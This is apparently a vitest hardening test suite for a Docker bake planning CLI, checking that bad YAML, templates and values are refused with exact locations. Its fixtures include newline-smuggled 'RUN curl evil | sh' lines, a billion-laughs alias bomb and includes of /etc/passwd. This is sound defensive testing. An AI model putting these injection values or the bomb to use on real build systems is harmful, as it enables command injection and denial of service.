// Hardening catalogue, "bad inputs": every row runs `bakeplan plan` through the CLI on a project
// that was planned once, and asserts the exit code, the exact file:line:col (and key path or
// template line) in the message, and that not one file, directory or mtime changed.
import { readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { runCli, testdir } from "../helpers.js";
import {
  expectRefused,
  expectTreeUnchanged,
  HARD_CONTEXT,
  HARD_TEMPLATE,
  loc,
  plannedProject,
  snapshotTree,
} from "../hardening-helpers.js";

/** HARD_CONTEXT with one exact piece replaced; fails loudly if the fixture no longer has it. */
function edit(from: string, to: string, text = HARD_CONTEXT): string {
  expect(text).toContain(from);
  return text.replace(from, to);
}

interface Row {
  name: string;
  /** Files written over the planned project (context.yaml, templates/...). */
  files: Record<string, string>;
  args?: string[];
  code?: number;
  /** `file:line:col: key.path` prefixes that must appear, computed from the bad text. */
  at: (files: Record<string, string>) => string[];
  message: string | RegExp;
}

async function expectRow(row: Row): Promise<void> {
  const dir = await plannedProject();
  for (const [name, content] of Object.entries(row.files)) writeFileSync(join(dir, name), content);
  const before = snapshotTree(dir);
  // No timed assertion: each message names the limit that stopped the work, and an input no limit
  // stopped would run past vitest's test timeout.
  const res = await runCli(["plan", ...(row.args ?? [])], dir);
  expectRefused(res, { code: row.code ?? 1, at: row.at(row.files), message: row.message });
  expectTreeUnchanged(dir, before);
}

const yaml = (files: Record<string, string>) => files["context.yaml"]!;
const BOMB = `lol: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
`;

// prettier-ignore
const yamlRows: Row[] = [
  {
    name: "YAML syntax error: an unclosed [ is reported where it opens, not where the parser gave up",
    files: { "context.yaml": edit("  tags: [\"{branch}-{name}\"]", "  tags: [\"{branch}-{name}\"\n  oops: 1") },
    at: (f) => [loc(yaml(f), "[\"{branch}")],
    message: "YAML: This [ opens a list that is never closed: end it with ]",
  },
  {
    name: "YAML duplicate key",
    files: { "context.yaml": `${HARD_CONTEXT}stage_axis: framework\n` },
    at: (f) => [loc(yaml(f), "stage_axis", { nth: 1 })],
    message: "stage_axis: YAML: Duplicate key \"stage_axis\"",
  },
  {
    name: "YAML tab where indentation is expected",
    files: { "context.yaml": edit("  name: demo", "\tname: demo") },
    at: (f) => [loc(yaml(f), "\tname")],
    message: "YAML: Tabs are not allowed as indentation",
  },
  {
    name: "YAML anchor/alias bomb (billion laughs) is refused quickly",
    files: { "context.yaml": HARD_CONTEXT + BOMB },
    at: (f) => [loc(yaml(f), "*a")],
    message: /YAML: Excessive alias count .*more than 100 alias expansions/,
    // Expanded, the bomb would be 9^9 (387 million) strings.
  },
];

// prettier-ignore
const schemaRows: Row[] = [
  {
    name: "schema: wrong type",
    files: { "context.yaml": edit("  tags: [\"{branch}-{name}\"]", "  tags: 5") },
    at: (f) => [`${loc(yaml(f), "5")}: publish.tags`],
    message: "Invalid type: expected array, got number",
  },
  {
    name: "schema: unknown key, with did-you-mean",
    files: { "context.yaml": edit("  platforms: [linux/amd64]", "  platfroms: [linux/amd64]") },
    at: (f) => [`${loc(yaml(f), "platfroms")}: defaults.platfroms`],
    message: 'Unknown key "platfroms". Did you mean "platforms"?',
  },
  {
    name: "schema: a required key missing",
    files: { "context.yaml": edit("  repository: demo/app\n", "") },
    at: (f) => [`${loc(yaml(f), "registry:")}: publish`],
    message: 'Missing required key "repository"',
  },
  {
    name: "schema: an empty axis",
    files: { "context.yaml": edit("framework: [vllm, sglang]", "framework: []") },
    at: (f) => [`${loc(yaml(f), "[]")}: axes.framework`],
    message: 'Empty axis "framework"',
  },
  {
    name: "schema: an axis value that is not a string",
    files: { "context.yaml": edit("framework: [vllm, sglang]", "framework: [vllm, 3.10]") },
    at: (f) => [`${loc(yaml(f), "3.10")}: axes.framework[1]`],
    message: 'expected a string, but YAML reads 3.10 as the number 3.1. Quote it: "3.10"',
  },
  {
    name: "schema: a precedence layer naming an axis that does not exist",
    files: { "context.yaml": `${HARD_CONTEXT}combinations:\n  - when: {framewrk: vllm}\n    args: {PYTHON_VERSION: "3.11"}\n` },
    at: (f) => [`${loc(yaml(f), "framewrk")}: combinations[0].when.framewrk`],
    message: 'Unknown axis "framewrk". Did you mean "framework"?',
  },
  {
    name: "schema: a precedence layer naming a value that does not exist",
    files: { "context.yaml": `${HARD_CONTEXT}combinations:\n  - when: {framework: vlm}\n    args: {PYTHON_VERSION: "3.11"}\n` },
    at: (f) => [`${loc(yaml(f), "vlm")}: combinations[0].when.framework`],
    message: 'Unknown value "vlm" for axis "framework". Did you mean "vllm"?',
  },
];

// prettier-ignore
const matrixRows: Row[] = [
  {
    name: "matrix: an exclusion that matches nothing is an error with --strict",
    files: { "context.yaml": `${HARD_CONTEXT}exclude:\n  - when: {framework: sglang}\n    reason: not yet\n  - when: {framework: sglang, target: dev}\n    reason: shadowed\n` },
    args: ["--strict"],
    at: (f) => [`${loc(yaml(f), "- when: {framework: sglang, target", { offset: 2 })}: exclude[1]`],
    message: "(an error with --strict)",
  },
  {
    name: "matrix: an inclusion that matches nothing is an error with --strict",
    files: { "context.yaml": `${HARD_CONTEXT}include:\n  - when: {framework: sglang}\n    reason: nothing excludes it\n` },
    args: ["--strict"],
    at: (f) => [`${loc(yaml(f), "when: {framework: sglang}")}: include[0]`],
    message: "it has no effect (an error with --strict)",
  },
  {
    name: "matrix: every combination excluded",
    files: { "context.yaml": `${HARD_CONTEXT}exclude:\n  - when: {target: [runtime, dev]}\n    reason: nothing ships\n` },
    at: (f) => [`${loc(yaml(f), "- when: {target", { offset: 0 })}: exclude`],
    message: "Every combination is excluded",
  },
  {
    name: "matrix: two variants mapping to one target name (both named)",
    files: { "context.yaml": edit("framework: [vllm, sglang]", "framework:\n    vllm: {name: fw}\n    sglang: {name: fw}") },
    at: (f) => [`${loc(yaml(f), "fw}", { nth: 1 })}: axes.framework.sglang.name`],
    message: 'Two variants map to the target name "fw-runtime": framework=vllm, target=runtime and framework=sglang, target=runtime',
  },
  {
    name: "matrix: a target name with characters bake rejects",
    files: { "context.yaml": edit("framework: [vllm, sglang]", 'framework: {vllm: {}, sglang: {name: "sg.lang"}}') },
    at: (f) => [`${loc(yaml(f), '"sg.lang"')}: axes.framework.sglang.name`],
    message: 'Target name "sg.lang-runtime" (framework=sglang, target=runtime) has characters bake rejects: the `name` of framework=sglang is "sg.lang"',
  },
  {
    name: "matrix: a group name with characters bake rejects",
    files: { "context.yaml": `${HARD_CONTEXT}groups:\n  define:\n    "gpu builds": {target: runtime}\n` },
    at: (f) => [`${loc(yaml(f), '"gpu builds"')}: groups.define["gpu builds"]`],
    message: 'Group name "gpu builds" has characters bake rejects',
  },
  {
    name: "matrix: a group named like a target",
    files: { "context.yaml": `${HARD_CONTEXT}groups:\n  define:\n    vllm-dev: {framework: vllm}\n` },
    at: (f) => [`${loc(yaml(f), "vllm-dev:")}: groups.define.vllm-dev`],
    message: 'Group "vllm-dev" has the name of a target',
  },
  {
    name: "matrix: more variants than the default limit of 10,000",
    files: { "context.yaml": edit("framework: [vllm, sglang]", `framework: [${Array.from({ length: 101 }, (_, i) => `f${i}`).join(", ")}]\n  extra: [${Array.from({ length: 100 }, (_, i) => `e${i}`).join(", ")}]`) },
    at: (f) => [`${loc(yaml(f), "framework:")}: axes`],
    message: "More than 10000 variants",
  },
  {
    name: "matrix: more variants than limits.max_variants",
    files: { "context.yaml": `${HARD_CONTEXT}limits: {max_variants: 3}\n` },
    at: (f) => [`${loc(yaml(f), "framework:")}: axes`],
    message: "More than 3 variants: the matrix is larger than limits.max_variants. Raise it (or pass --max-variants)",
  },
];

// prettier-ignore
const tagRows: Row[] = [
  {
    name: "refs: an image reference with an uppercase repository",
    files: { "context.yaml": edit("  args:\n", "  images:\n    BASE_IMAGE: docker.io/Library/Ubuntu:24.04\n  args:\n") },
    at: (f) => [`${loc(yaml(f), "docker.io/Library")}: defaults.images.BASE_IMAGE`],
    message: 'Invalid image reference "docker.io/Library/Ubuntu:24.04": the repository must be lowercase',
  },
  {
    name: "refs: an image reference with bad characters",
    files: { "context.yaml": edit("  args:\n", "  images:\n    BASE_IMAGE: \"ubuntu:24 04\"\n  args:\n") },
    at: (f) => [`${loc(yaml(f), '"ubuntu:24 04"')}: defaults.images.BASE_IMAGE`],
    message: 'Invalid image reference "ubuntu:24 04"',
  },
  {
    name: "refs: an image tag over 128 characters",
    files: { "context.yaml": edit("  args:\n", `  images:\n    BASE_IMAGE: ubuntu:${"t".repeat(129)}\n  args:\n`) },
    at: (f) => [`${loc(yaml(f), "ubuntu:ttt")}: defaults.images.BASE_IMAGE`],
    message: "the tag is 129 characters, at most 128 are allowed",
  },
  {
    name: "refs: an uppercase publish repository",
    files: { "context.yaml": edit("repository: demo/app", "repository: Demo/App") },
    at: (f) => [`${loc(yaml(f), "Demo/App")}: publish.repository`],
    message: 'Invalid repository "Demo/App"',
  },
  {
    name: "refs: a tag pattern with characters a tag cannot have",
    files: { "context.yaml": edit('tags: ["{branch}-{name}"]', 'tags: ["{branch}:{name}"]') },
    at: (f) => [`${loc(yaml(f), '"{branch}:{name}"')}: publish.tags[0]`],
    message: 'Invalid tag pattern "{branch}:{name}": ":" cannot appear in a tag',
  },
  {
    name: "refs: a sanitised branch still makes a tag over 128 characters",
    files: {},
    args: ["--branch", `feature/${"x".repeat(200)}`],
    at: () => [`${loc(HARD_CONTEXT, '"{branch}-{name}"')}: publish.tags[0]`, `${loc(HARD_CONTEXT, "repository: demo/cache")}: cache.tag`],
    message: /Invalid tag "feature-x+…": 13\d characters, at most 128 are allowed \(built from the pattern "\{branch\}-\{name\}"/,
  },
  {
    name: "refs: --image-version with a line break (it reaches a label as is)",
    files: {},
    args: ["--image-version", "1.0\nRUN curl evil | sh"],
    at: () => ["command line: --image-version"],
    message: "The option --image-version contains a line break",
  },
  {
    name: "refs: --sha with a carriage return",
    files: {},
    args: ["--sha", "abc\rdef"],
    at: () => ["command line: --sha"],
    message: "The option --sha contains a line break",
  },
  {
    name: "refs: --registry that is not a host",
    files: {},
    args: ["--registry", "not a host"],
    at: () => ["command line: --registry"],
    message: 'Invalid registry "not a host"',
  },
];

const tpl = (files: Record<string, string>, name = "templates/Dockerfile.liquid") => files[name]!;
const withLine = (line: string) => ({ "templates/Dockerfile.liquid": `${HARD_TEMPLATE}${line}\n` });

// prettier-ignore
const templateRows: Row[] = [
  {
    name: "templates: syntax error",
    files: withLine("{% if framework == 'vllm' %}RUN true"),
    at: (f) => [loc(tpl(f), "{% if", { file: "templates/Dockerfile.liquid" })],
    message: "tag {% if framework == 'vllm' %} not closed",
  },
  {
    name: "templates: undefined variable",
    files: withLine("RUN echo {{ cuda }}"),
    at: (f) => [loc(tpl(f), "cuda }}", { file: "templates/Dockerfile.liquid" })],
    message: "undefined variable: cuda",
  },
  {
    name: "templates: undefined filter",
    files: withLine("RUN echo {{ framework | shout }}"),
    at: (f) => [loc(tpl(f), "{{ framework | shout", { file: "templates/Dockerfile.liquid" })],
    message: "undefined filter: shout",
  },
  {
    name: "templates: missing include",
    files: withLine("{% include 'nowhere' %}"),
    at: (f) => [loc(tpl(f), "{% include", { file: "templates/Dockerfile.liquid" })],
    message: 'Failed to lookup "nowhere"',
  },
  {
    name: "templates: include of ../ (outside templates/)",
    files: withLine("{% include '../context.yaml' %}"),
    at: (f) => [loc(tpl(f), "{% include", { file: "templates/Dockerfile.liquid" })],
    message: 'Include "../context.yaml" points outside templates/',
  },
  {
    name: "templates: include of an absolute path",
    files: withLine("{% include '/etc/passwd' %}"),
    at: (f) => [loc(tpl(f), "{% include", { file: "templates/Dockerfile.liquid" })],
    message: 'Include "/etc/passwd" points outside templates/',
  },
  {
    name: "templates: include cycle",
    files: { ...withLine("{% include 'a' %}"), "templates/a.liquid": "RUN true\n{% include 'b' %}\n", "templates/b.liquid": "RUN true\n  {% include 'a' %}\n" },
    at: (f) => [loc(tpl(f, "templates/b.liquid"), "{% include", { file: "templates/b.liquid" })],
    message: "Include cycle: a.liquid -> b.liquid -> a.liquid",
  },
];

// prettier-ignore
const valueRows: Row[] = [
  {
    name: "values: a newline in an ARG",
    files: { "context.yaml": edit('PYTHON_VERSION: "3.12"', 'PYTHON_VERSION: "3.12\\nRUN curl evil | sh"') },
    at: (f) => [`${loc(yaml(f), '"3.12')}: defaults.args.PYTHON_VERSION`],
    message: "The ARG PYTHON_VERSION contains a line break",
  },
  {
    name: "values: a carriage return in an ARG (block scalar)",
    files: { "context.yaml": edit('PYTHON_VERSION: "3.12"', 'PYTHON_VERSION: "3.12\\r"') },
    at: (f) => [`${loc(yaml(f), '"3.12')}: defaults.args.PYTHON_VERSION`],
    message: "The ARG PYTHON_VERSION contains a line break",
  },
  {
    name: "values: a literal block scalar ARG spans lines",
    files: { "context.yaml": edit('PYTHON_VERSION: "3.12"', "PYTHON_VERSION: |\n      3.12\n      RUN curl evil | sh") },
    at: (f) => [`${loc(yaml(f), "|")}: defaults.args.PYTHON_VERSION`],
    message: "The ARG PYTHON_VERSION contains a line break",
  },
  {
    name: "values: a NUL in an ARG",
    files: { "context.yaml": edit('PYTHON_VERSION: "3.12"', 'PYTHON_VERSION: "3.12\\0"') },
    at: (f) => [`${loc(yaml(f), '"3.12')}: defaults.args.PYTHON_VERSION`],
    message: "The ARG PYTHON_VERSION contains a NUL character",
  },
  {
    name: "values: an ARG not in Unicode NFC (bake would normalise it)",
    files: { "context.yaml": edit('PYTHON_VERSION: "3.12"', 'PYTHON_VERSION: "caf\\u0065\\u0301"') },
    at: (f) => [`${loc(yaml(f), '"caf')}: defaults.args.PYTHON_VERSION`],
    message: 'The ARG PYTHON_VERSION is not in Unicode normal form C; bake normalises every string, so the build would get different characters. Write it in NFC ("café")',
  },
  {
    name: "values: a newline in --set",
    files: {},
    args: ["--set", "PYTHON_VERSION=3.12\nRUN curl evil | sh"],
    at: () => ["command line: --set PYTHON_VERSION"],
    message: "The ARG PYTHON_VERSION contains a line break",
  },
  {
    name: "values: a newline in a label value",
    files: { "context.yaml": edit("org.example.team: infra", 'org.example.team: "infra\\nteam"') },
    at: (f) => [`${loc(yaml(f), '"infra')}: defaults.labels["org.example.team"]`],
    message: "The label org.example.team contains a line break",
  },
  {
    name: "values: a newline in a label name",
    files: { "context.yaml": edit("org.example.team: infra", '"org.example\\nteam": infra') },
    at: (f) => [`${loc(yaml(f), '"org.example')}: defaults.labels["org.example\\nteam"]`],
    message: 'The label name "org.example\\nteam" contains a line break',
  },
  {
    name: "values: a newline in an axis value (it reaches names, tags and templates)",
    files: { "context.yaml": edit("framework: [vllm, sglang]", 'framework: [vllm, "sglang\\nRUN x"]') },
    at: (f) => [`${loc(yaml(f), '"sglang')}: axes.framework[1]`],
    message: 'The axis value framework="sglang\\nRUN x" contains a line break',
  },
  {
    name: "values: a newline in a platform",
    files: { "context.yaml": edit("platforms: [linux/amd64]", 'platforms: ["linux/amd64\\nRUN x"]') },
    at: (f) => [`${loc(yaml(f), '"linux/amd64')}: defaults.platforms[0]`],
    message: 'must look like "linux/amd64"',
  },
  {
    name: "values: a newline in build.syntax (the Dockerfile's first line)",
    files: { "context.yaml": edit("stage_axis:", 'build:\n  syntax: "docker/dockerfile:1\\nRUN curl evil | sh"\nstage_axis:') },
    at: (f) => [`${loc(yaml(f), '"docker/dockerfile')}: build.syntax`],
    message: "The setting build.syntax contains a line break",
  },
  {
    name: "values: a newline in a project field (it becomes a label)",
    files: { "context.yaml": edit("  name: demo", '  name: demo\n  source: "https://example.com\\nx"') },
    at: (f) => [`${loc(yaml(f), '"https')}: project.source`],
    message: "contains a line break",
  },
];

const secretHint =
  /build args are stored in the image history\. Declare a bake secret under `secrets:` and read it with RUN --mount=type=secret,id=\.\.\. instead, or list \w+ in build\.allow_secret_like/;
const secretRow = (name: string, arg: string, value: string, why: string): Row => ({
  name,
  files: {
    "context.yaml": edit('PYTHON_VERSION: "3.12"', `PYTHON_VERSION: "3.12"\n    ${arg}: ${JSON.stringify(value)}`),
  },
  at: (f) => [`${loc(yaml(f), JSON.stringify(value))}: defaults.args.${arg}`],
  message: new RegExp(`ARG ${arg} looks like a secret \\(${why}\\); ${secretHint.source}`),
});

// prettier-ignore
const secretRows: Row[] = [
  secretRow("secrets: an ARG named *_TOKEN", "HF_TOKEN", "hf_abc", "its name HF_TOKEN looks like a secret"),
  secretRow("secrets: an ARG named *_PASSWORD", "DB_PASSWORD", "hunter2", "its name DB_PASSWORD looks like a secret"),
  secretRow("secrets: an ARG named *SECRET*", "CLIENT_SECRET", "abc", "its name CLIENT_SECRET looks like a secret"),
  secretRow("secrets: an AWS access key id as a value", "KEY_ID", "AKIAIOSFODNN7EXAMPLE", "its value looks like an AWS access key id"),
  secretRow("secrets: a private key block as a value", "SIGNING", "-----BEGIN OPENSSH PRIVATE KEY-----", "its value looks like a private key block"),
  {
    name: "secrets: a secret-looking --set value",
    files: {},
    args: ["--set", "PYTHON_VERSION=AKIAIOSFODNN7EXAMPLE"],
    at: () => ["command line: --set PYTHON_VERSION"],
    message: secretHint,
  },
];

describe("hardening: bad YAML", () => {
  it.each(yamlRows)("$name", expectRow);
});

describe("hardening: schema errors", () => {
  it.each(schemaRows)("$name", expectRow);
});

describe("hardening: matrix errors", () => {
  it.each(matrixRows)("$name", expectRow);

  it("matrix: an exclusion or inclusion that matches nothing is a warning with file:line:col, exit 0 without --strict", async () => {
    const dir = await plannedProject();
    const text = `${HARD_CONTEXT}exclude:\n  - when: {framework: sglang}\n    reason: not yet\n  - when: {framework: sglang, target: dev}\n    reason: shadowed\ninclude:\n  - when: {framework: vllm}\n    reason: nothing excludes it\n`;
    writeFileSync(join(dir, "context.yaml"), text);
    const res = await runCli(["plan"], dir);
    expect(res.code, res.stderr).toBe(0);
    expect(res.stderr).toContain(
      `bakeplan: warning: ${loc(text, "- when: {framework: sglang, target", { offset: 2 })}: exclude[1]: This exclude only matches combinations an earlier exclude already matches`,
    );
    expect(res.stderr).toContain(
      `bakeplan: warning: ${loc(text, "when: {framework: vllm}")}: include[0]: This include only matches combinations no exclude removes`,
    );
  });

  it("matrix: --max-variants raises the limit", async () => {
    const dir = await plannedProject();
    writeFileSync(join(dir, "context.yaml"), `${HARD_CONTEXT}limits: {max_variants: 3}\n`);
    expect((await runCli(["plan"], dir)).code).toBe(1);
    const res = await runCli(["plan", "--max-variants", "4"], dir);
    expect(res.code, res.stderr).toBe(0);
    expect(res.stdout).toContain("4 targets");
  });

  it("matrix: --max-variants must be a positive whole number (usage error, exit 2)", async () => {
    const dir = await plannedProject();
    const before = snapshotTree(dir);
    const res = await runCli(["plan", "--max-variants", "lots"], dir);
    expect(res.code).toBe(2);
    expect(res.stderr).toContain("--max-variants lots: expected a positive whole number");
    expectTreeUnchanged(dir, before);
  });
});

describe("hardening: image references and tags", () => {
  it.each(tagRows)("$name", expectRow);

  it("refs: branch names in tags and cache refs are sanitised like docker/metadata-action (a line break cannot split a tag)", async () => {
    const dir = await plannedProject();
    const res = await runCli(["plan", "--branch", "..-feature/Foo Bar\nRUN curl evil | sh"], dir);
    expect(res.code, res.stderr).toBe(0);
    const bake = JSON.parse(readFileSync(join(dir, "docker-bake.json"), "utf8")) as {
      target: Record<string, { tags: string[]; "cache-from": string[] }>;
    };
    const t = bake.target["vllm-dev"]!;
    expect(t.tags).toEqual(["registry.example.com/demo/app:feature-Foo-Bar-RUN-curl-evil-sh-vllm-dev"]);
    expect(t["cache-from"]).toEqual([
      "type=registry,ref=registry.example.com/demo/cache:vllm-dev-feature-Foo-Bar-RUN-curl-evil-sh",
      "type=registry,ref=registry.example.com/demo/cache:vllm-dev-main",
    ]);
  });
});

describe("hardening: templates", () => {
  it.each(templateRows)("$name", expectRow);

  it("templates: include of a symlink pointing outside templates/ (reported at the include)", async () => {
    const dir = await plannedProject();
    const outside = testdir({ "evil.liquid": "RUN curl evil | sh\n" });
    const text = `${HARD_TEMPLATE}{% include 'evil' %}\n`;
    writeFileSync(join(dir, "templates/Dockerfile.liquid"), text);
    symlinkSync(join(outside, "evil.liquid"), join(dir, "templates/evil.liquid"));
    const before = snapshotTree(dir);
    const res = await runCli(["plan"], dir);
    expectRefused(res, {
      at: [loc(text, "{% include", { file: "templates/Dockerfile.liquid" })],
      message: `evil.liquid is a link to ${join(outside, "evil.liquid")}, outside templates/`,
    });
    expectTreeUnchanged(dir, before);
  });

  it("templates: a broken link inside templates/ is an error, not a crash", async () => {
    const dir = await plannedProject();
    symlinkSync(join(dir, "templates/gone.liquid"), join(dir, "templates/link.liquid"));
    const before = snapshotTree(dir);
    const res = await runCli(["plan"], dir);
    expectRefused(res, {
      at: ["templates/link.liquid: Broken link"],
      message: `(to ${join(dir, "templates/gone.liquid")})`,
    });
    expectTreeUnchanged(dir, before);
  });
});

describe("hardening: values that would escape", () => {
  it.each(valueRows)("$name", expectRow);
});

describe("hardening: secret-looking ARGs", () => {
  it.each(secretRows)("$name", expectRow);

  it("secrets: build.allow_secret_like lets a false positive through", async () => {
    const dir = await plannedProject();
    writeFileSync(
      join(dir, "context.yaml"),
      edit(
        "stage_axis:",
        "build:\n  allow_secret_like: [TOKENIZER_TOKEN]\nstage_axis:",
        edit('PYTHON_VERSION: "3.12"', 'PYTHON_VERSION: "3.12"\n    TOKENIZER_TOKEN: bert-base'),
      ),
    );
    writeFileSync(join(dir, "templates/Dockerfile.liquid"), `${HARD_TEMPLATE}{% arg TOKENIZER_TOKEN %}\n`);
    const res = await runCli(["plan"], dir);
    expect(res.code, res.stderr).toBe(0);
  });
});
